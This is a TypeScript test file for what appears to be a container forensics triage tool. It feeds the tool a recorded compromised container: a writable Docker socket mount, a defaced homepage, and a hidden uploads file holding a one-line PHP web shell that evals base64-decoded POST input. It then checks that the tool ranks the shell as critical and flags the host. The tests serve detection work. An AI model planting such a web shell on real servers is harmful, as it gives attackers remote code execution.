/**
 * The triage pipeline is the same for every evidence source: here it runs whole
 * on a recorded container, with no engine, and produces the report every view reads.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { triage } from '../../src/app/triage.js';
import { verifyCase } from '../../src/bundle/verify-case.js';
import type { TriageReport } from '../../src/report/triage-report.js';
import { RecordedSource } from '../support/recorded-source.js';

let work: string;
let source: RecordedSource;
let report: TriageReport;

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'coroner-pipeline-'));
  source = new RecordedSource({
    id: 'f'.repeat(64),
    name: 'web-1',
    runtime: {
      mounts: [
        {
          type: 'bind',
          source: '/var/run/docker.sock',
          destination: '/var/run/docker.sock',
          isWritable: true,
        },
      ],
    },
    changes: [
      { path: '/var', kind: 'C' },
      { path: '/var/www', kind: 'C' },
      { path: '/var/www/index.html', kind: 'C' },
      { path: '/var/www/uploads', kind: 'C' },
      { path: '/var/www/uploads/.x.php', kind: 'A' },
      { path: '/run/httpd.pid', kind: 'A' },
      { path: 'relative/nonsense', kind: 'A' },
    ],
    original: {
      '/var': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www/uploads': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www/index.html': { meta: {}, content: '<h1>Welcome</h1>\n' },
    },
    current: {
      '/var': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www/uploads': { meta: { type: 'directory', mode: 0o755 } },
      '/var/www/index.html': { meta: {}, content: '<h1>HACKED</h1>\n' },
      '/var/www/uploads/.x.php': {
        meta: {},
        content: '<?php eval(base64_decode($_POST["p"])); ?>\n',
      },
      '/run/httpd.pid': { meta: {}, content: '7\n' },
    },
  });
  report = await triage(source, 'web-1', {
    caseDir: path.join(work, 'case'),
    cacheDir: path.join(work, 'cache'),
  });
});
afterAll(() => rm(work, { recursive: true, force: true }));

describe('the pipeline on a recorded source', () => {
  it('asks the source for each thing once, in order', () => {
    expect(source.calls).toEqual(['acquire', 'changeList', 'originalLayers', 'readVersions']);
  });

  it('ranks the web shell first and the pid file last, parents apart', () => {
    const ranked = report.changes.filter((c) => !c.isParentOnly).map((c) => [c.path, c.severity]);
    expect(ranked).toEqual([
      ['/var/www/uploads/.x.php', 'critical'],
      ['/var/www/index.html', 'high'],
      ['/run/httpd.pid', 'low'],
    ]);
    expect(report.counts).toMatchObject({ added: 2, changed: 1, parentOnly: 3 });
  });

  it('diffs the defaced page from the stored versions', () => {
    const page = report.changes.find((c) => c.path === '/var/www/index.html')!;
    expect(page.comparison?.content).toMatchObject({
      kind: 'text-diff',
      addedLines: 1,
      removedLines: 1,
    });
  });

  it('judges the recorded runtime configuration and calls the host compromised for a mounted engine socket', () => {
    expect(report.hostCompromise.isSuspected).toBe(true);
    expect(report.exposure.find((e) => e.cis === '5.32')?.passed).toBe(false);
    expect(report.notCovered.map((m) => m.destination)).toEqual([
      '/var/run/docker.sock',
      '/dev/shm',
    ]);
  });

  it('names a path no source should give as a problem, and what the source could not collect', () => {
    expect(report.problems).toEqual([
      expect.objectContaining({ path: 'relative/nonsense', action: 'read change list' }),
    ]);
    expect(report.notCollected).toEqual([{ item: 'processes', reason: 'a recording has none' }]);
  });

  it('writes a case folder that verifies, whose report.json is the returned report', async () => {
    const onDisk = JSON.parse(
      await readFile(path.join(report.caseDir, 'report.json'), 'utf8'),
    ) as TriageReport;
    expect(onDisk.changes.map((c) => c.path)).toEqual(report.changes.map((c) => c.path));
    expect(onDisk.schemaVersion).toBe(2);
    const check = await verifyCase(report.caseDir);
    expect(check).toMatchObject({ state: 'complete', isIntact: true });
  });
});
